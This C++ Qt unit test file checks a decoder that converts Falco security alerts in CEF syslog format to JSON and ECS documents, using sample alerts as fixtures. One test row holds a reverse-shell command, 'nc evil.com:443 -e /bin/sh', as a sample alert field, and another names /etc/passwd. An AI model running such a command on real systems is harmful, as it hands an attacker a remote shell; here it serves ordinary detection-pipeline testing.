// SPDX-License-Identifier: Apache-2.0
#include "ingest/syslog/cefdecoder.h"
#include "ingest/ecs/ecsmapper.h"

#include <QTest>

#include <nlohmann/json.hpp>

using nlohmann::json;

namespace {

// What Falcosidekick's syslog output (SYSLOG_FORMAT=cef) writes after the Go log/syslog header.
const QByteArray s_full =
    "CEF:0|Falcosecurity|Falco|1.0|Falco Event|Terminal shell in container|4|"
    "uuid=4f1a0c1e-8c3b-4b2e-9a55-0a0d6d1f3c2b start=2024-08-07T13:49:16Z "
    "msg=13:49:16.479964318: Notice A shell was spawned (user=root shell=bash parent=runc cmdline=bash -il) "
    "source=syscall hostname=node-1 outputfields=container.id:2ae6a7f15b6e proc.cmdline:bash -il "
    "evt.time:1.723038556479964e+18 user.loginuid:-1 proc.aname[2]:<nil> tags=container,shell,mitre_execution";

json parse(const QByteArray &text)
{
    return json::parse(text.constData(), text.constData() + text.size());
}

} // namespace

class TestCefDecoder : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void decode_data()
    {
        QTest::addColumn<QByteArray>("cef");
        QTest::addColumn<QByteArray>("expected");   // the Falco JSON it must equal

        QTest::newRow("full record with hostname, fields and tags")
            << s_full
            << QByteArray(R"J({"uuid":"4f1a0c1e-8c3b-4b2e-9a55-0a0d6d1f3c2b","output":"13:49:16.479964318: Notice A shell was spawned (user=root shell=bash parent=runc cmdline=bash -il)","priority":"Notice","rule":"Terminal shell in container","time":"2024-08-07T13:49:16Z","source":"syscall","hostname":"node-1","output_fields":{"container.id":"2ae6a7f15b6e","proc.cmdline":"bash -il","evt.time":1723038556479963904,"user.loginuid":-1,"proc.aname[2]":null},"tags":["container","shell","mitre_execution"]})J");
        QTest::newRow("no hostname, no tags")
            << QByteArray("CEF:0|Falcosecurity|Falco|1.0|Falco Event|Write below etc|6|uuid=u1 start=2024-01-02T03:04:05Z "
                          "msg=File below /etc opened source=syscall outputfields=fd.name:/etc/passwd")
            << QByteArray(R"J({"uuid":"u1","output":"File below /etc opened","priority":"Warning","rule":"Write below etc","time":"2024-01-02T03:04:05Z","source":"syscall","output_fields":{"fd.name":"/etc/passwd"}})J");
        QTest::newRow("no output fields, tags glued to outputfields=")
            << QByteArray("CEF:0|Falcosecurity|Falco|1.0|Falco Event|Test rule|10|uuid=u2 start=2024-01-02T03:04:05Z "
                          "msg=boom source=k8s_audit hostname=h outputfields=tags=a,b")
            << QByteArray(R"J({"uuid":"u2","output":"boom","priority":"Emergency","rule":"Test rule","time":"2024-01-02T03:04:05Z","source":"k8s_audit","hostname":"h","output_fields":{},"tags":["a","b"]})J");
        QTest::newRow("msg containing key-like text, rule containing a bar")
            << QByteArray("CEF:0|Falcosecurity|Falco|1.0|Falco Event|Odd | rule|0|uuid=u3 start=2024-01-02T03:04:05Z "
                          "msg=x source=fake hostname=fake y source=syscall outputfields=evt.type:open")
            << QByteArray(R"J({"uuid":"u3","output":"x source=fake hostname=fake y","priority":"Debug","rule":"Odd | rule","time":"2024-01-02T03:04:05Z","source":"syscall","output_fields":{"evt.type":"open"}})J");
        QTest::newRow("value with colons and spaces, unknown severity")
            << QByteArray("CEF:0|Falcosecurity|Falco|1.0|Falco Event|R|Uknown|uuid= start=2024-01-02T03:04:05Z msg=m "
                          "source=syscall outputfields=proc.cmdline:nc evil.com:443 -e /bin/sh fd.sip:10.0.0.1")
            << QByteArray(R"J({"uuid":"","output":"m","rule":"R","time":"2024-01-02T03:04:05Z","source":"syscall","output_fields":{"proc.cmdline":"nc evil.com:443 -e /bin/sh","fd.sip":"10.0.0.1"}})J");
    }

    void decode()
    {
        QFETCH(QByteArray, cef);
        QFETCH(QByteArray, expected);
        QVERIFY(fe::isCef(cef));
        QString error;
        const QByteArray out = fe::falcoJsonFromCef(cef, -1, &error);
        QVERIFY2(!out.isEmpty(), qPrintable(error));
        QCOMPARE(QByteArray::fromStdString(parse(out).dump()), QByteArray::fromStdString(parse(expected).dump()));
    }

    void rejects_data()
    {
        QTest::addColumn<QByteArray>("cef");
        QTest::newRow("not CEF") << QByteArray("{\"rule\":\"x\"}");
        QTest::newRow("too few header fields") << QByteArray("CEF:0|Falcosecurity|Falco");
        QTest::newRow("foreign CEF without uuid") << QByteArray("CEF:0|Vendor|Prod|1|100|Name|5|src=10.0.0.1 act=blocked");
        QTest::newRow("no outputfields") << QByteArray(
            "CEF:0|Falcosecurity|Falco|1.0|Falco Event|R|4|uuid=u start=2024-01-02T03:04:05Z msg=m source=syscall");
    }

    void rejects()
    {
        QFETCH(QByteArray, cef);
        QString error;
        QVERIFY(fe::falcoJsonFromCef(cef, -1, &error).isEmpty());
        QVERIFY(!error.isEmpty());
    }

    void syslogSeverityIsTheFallbackPriority()
    {
        const QByteArray cef = "CEF:0|Falcosecurity|Falco|1.0|Falco Event|R|Uknown|uuid=u start=2024-01-02T03:04:05Z "
                               "msg=m source=syscall outputfields=";
        QCOMPARE(QString::fromStdString(parse(fe::falcoJsonFromCef(cef, 3))["priority"].get<std::string>()),
                 QStringLiteral("Error"));
    }

    // The whole path a received frame takes: Go syslog header + CEF → mapper → ECS document.
    void mapsLikeTheJsonFormat()
    {
        const QByteArray frame = "<5>2024-08-07T13:49:16Z sidekick-7d9 Falco[1]: " + s_full;
        fe::MapOptions options;
        options.input = fe::MapOptions::Input::Tcp;
        options.sourceAddress = QStringLiteral("127.0.0.1:40000");
        options.preserveOriginal = true;
        options.readTimeMs = 1723038600000;   // event.ingested: the same in both mappings compared below
        const fe::MapResult result = fe::mapFrame(frame, options);
        QCOMPARE(int(result.status), int(fe::MapResult::Status::Alert));
        QCOMPARE(result.alert.rule, QStringLiteral("Terminal shell in container"));
        QCOMPARE(result.alert.priority, fe::Priority::Notice);
        QCOMPARE(result.alert.uuid, QStringLiteral("4f1a0c1e-8c3b-4b2e-9a55-0a0d6d1f3c2b"));
        QCOMPARE(result.alert.containerId, QStringLiteral("2ae6a7f15b6e"));
        QCOMPARE(result.alert.hostname, QStringLiteral("node-1"));
        const json doc = parse(result.alert.ecsJson);
        QCOMPARE(doc["log"]["syslog"]["appname"].get<std::string>(), std::string("Falco"));
        QCOMPARE(doc["log"]["syslog"]["hostname"].get<std::string>(), std::string("sidekick-7d9"));
        QCOMPARE(doc["log"]["syslog"]["priority"].get<int>(), 5);
        QCOMPARE(doc["log"]["source"]["address"].get<std::string>(), std::string("127.0.0.1:40000"));
        QCOMPARE(doc["event"]["original"].get<std::string>(), frame.toStdString());
        // The document reads like any other (the mapper's key order), and only event.original differs from the
        // mapping of the equivalent JSON line behind the same header.
        QVERIFY(result.alert.ecsJson.startsWith("{\"@timestamp\":\"2024-08-07T13:49:16.479Z\",\"input\":{\"type\":\"tcp\"}"));
        const QByteArray jsonFrame = "<5>2024-08-07T13:49:16Z sidekick-7d9 Falco[1]: " + fe::falcoJsonFromCef(s_full, 5);
        json viaJson = parse(fe::mapLine(jsonFrame, options).alert.ecsJson);
        viaJson["event"]["original"] = frame.toStdString();
        QCOMPARE(QByteArray::fromStdString(doc.dump()), QByteArray::fromStdString(viaJson.dump()));

        // Without a syslog header (CEF straight on the wire) it maps as well.
        options.preserveOriginal = false;
        const fe::MapResult bare = fe::mapFrame(s_full, options);
        QCOMPARE(int(bare.status), int(fe::MapResult::Status::Alert));
        QCOMPARE(bare.alert.rule, QStringLiteral("Terminal shell in container"));
    }
};

QTEST_GUILESS_MAIN(TestCefDecoder)
#include "tst_cefdecoder.moc"
